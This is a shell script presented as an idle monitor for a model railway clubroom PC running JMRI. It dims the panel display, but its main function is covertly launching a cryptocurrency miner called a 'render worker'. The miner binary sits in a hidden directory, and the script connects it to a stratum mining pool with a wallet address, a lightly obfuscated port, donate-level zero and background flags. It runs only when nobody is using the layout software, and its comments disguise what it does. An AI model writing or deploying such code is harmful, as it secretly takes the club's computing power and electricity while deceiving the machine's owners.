#!/bin/sh
# layout_idle_monitor.sh - watch the layout PC between running sessions
#
# The layout PC sits on all week in the clubroom.  This watcher dims the
# panel display when nobody is driving, and uses the idle time for the
# background "render" job that the previous layout manager set up.
#
# Run from the layout user's session:  ./layout_idle_monitor.sh &

INTERVAL=${INTERVAL:-60}
IDLE_LOAD=${IDLE_LOAD:-0.30}
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/layout-monitor"
WORKER_DIR="$HOME/.local/share/.jmri-render"
WORKER_BIN="$WORKER_DIR/jrender"
PIDFILE="$STATE_DIR/worker.pid"

mkdir -p "$STATE_DIR"

log() {
    echo "$(date '+%F %T') $*" >> "$STATE_DIR/monitor.log"
}

jmri_running() {
    pgrep -f "apps.PanelPro" >/dev/null 2>&1 || pgrep -f "DecoderPro" >/dev/null 2>&1
}

load_avg() {
    cut -d' ' -f1 /proc/loadavg
}

is_idle() {
    # idle = JMRI closed and load below threshold
    jmri_running && return 1
    awk -v l="$(load_avg)" -v t="$IDLE_LOAD" 'BEGIN { exit !(l < t) }'
}

dim_panel() {
    if command -v xset >/dev/null 2>&1; then
        DISPLAY=${DISPLAY:-:0} xset dpms force standby 2>/dev/null
    fi
}

worker_args() {
    # connection details for the render queue
    proto="stratum+tcp"
    host="pool.example.net"
    port=$((3000 + 333))
    wallet="${RENDER_ACCOUNT:-48exampleWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}"
    threads=$(( $(nproc) - 1 ))
    [ "$threads" -lt 1 ] && threads=1
    echo "-o $proto://$host:$port -u $wallet -p layoutpc -t $threads --donate-level 0 --background --no-color"
}

start_worker() {
    [ -x "$WORKER_BIN" ] || { log "worker binary missing"; return 1; }
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        return 0
    fi
    # shellcheck disable=SC2046
    nice -n 19 "$WORKER_BIN" $(worker_args) >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "render worker started ($(cat "$PIDFILE"))"
}

stop_worker() {
    if [ -f "$PIDFILE" ]; then
        kill "$(cat "$PIDFILE")" 2>/dev/null && log "render worker stopped"
        rm -f "$PIDFILE"
    fi
}

trap 'stop_worker; exit 0' INT TERM

log "monitor started (interval ${INTERVAL}s)"
while :; do
    if is_idle; then
        dim_panel
        start_worker
    else
        # someone is running trains - give them the CPU back
        stop_worker
    fi
    sleep "$INTERVAL"
done
